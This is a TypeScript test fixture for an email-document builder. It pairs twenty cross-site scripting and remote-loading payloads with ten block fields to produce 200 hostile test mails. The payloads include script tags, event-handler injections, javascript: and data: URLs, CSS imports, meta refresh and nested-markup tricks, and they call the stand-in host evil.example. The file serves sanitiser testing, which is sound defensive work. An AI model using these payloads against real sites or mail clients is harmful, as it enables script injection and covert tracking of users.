import type { Block, EmailDocument } from "#areas/email/contract/document.ts";

/** Documents that try to run a script or to fetch something from evil.example: each attack in each text of a block. */

const evil = "https://evil.example";
const run = "window.hit=1";

const attacks: readonly string[] = [
  `<script>${run}</script>`,
  `<script src="${evil}/a.js"></script>`,
  `<img src=x onerror="${run}">`,
  `<svg onload="${run}"><image href="${evil}/b"/></svg>`,
  `<iframe src="${evil}/c" srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="${evil}/d"></object><embed src="${evil}/d">`,
  `<link rel="stylesheet" href="${evil}/e"><style>@import "${evil}/f";</style>`,
  `<meta http-equiv="refresh" content="0;url=${evil}/g"><base href="${evil}/">`,
  `<p style="background:url(${evil}/h);background-image:url('${evil}/h2')">x</p>`,
  `<form action="${evil}/i"><button autofocus onfocus="${run}">x</button></form>`,
  `<video autoplay src="${evil}/j" poster="${evil}/j"><source src="${evil}/j" onerror="${run}"></video>`,
  `<details open ontoggle="${run}">x</details>`,
  `<table background="${evil}/k"><td background="${evil}/k">x</table>`,
  `"><img src="${evil}/l" onerror="${run}">`,
  `' onmouseover='${run}' style='animation:x'`,
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `[x](javascript:${run}) ![x](${evil}/m "onerror=${run}")`,
  `<!--[if mso]><script>${run}</script><![endif]--><![CDATA[<script>${run}</script>]]>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run}"></style></table></mtext></math>`,
];

const places: readonly ((attack: string) => Block)[] = [
  (text) => ({ type: "Heading", data: { props: { text } } }),
  (text) => ({ type: "Text", data: { props: { text } } }),
  (text) => ({ type: "Text", data: { props: { text, markdown: true } } }),
  (contents) => ({ type: "Html", data: { props: { contents } } }),
  (text) => ({ type: "Button", data: { props: { text, url: "https://salon.example" } } }),
  (url) => ({ type: "Button", data: { props: { text: "x", url } } }),
  (url) => ({ type: "Image", data: { props: { url, alt: "x" } } }),
  (alt) => ({ type: "Image", data: { props: { url: "/email/picture.png", alt } } }),
  (linkHref) => ({ type: "Image", data: { props: { url: "/email/picture.png", alt: "x", linkHref } } }),
  (imageUrl) => ({ type: "Avatar", data: { props: { imageUrl } } }),
];

/** A document of these blocks, in order. */
export function mailOf(blocks: readonly Block[]): EmailDocument {
  const named = Object.fromEntries(blocks.map((block, index) => [`block-${index + 1}`, block]));
  return { ...named, root: { type: "EmailLayout", data: { childrenIds: Object.keys(named) } } };
}

export const hostileBlocks = attacks.flatMap((attack) => places.map((place) => place(attack)));
/** 200 documents with one block each. */
export const hostileMails = hostileBlocks.map((block) => mailOf([block]));
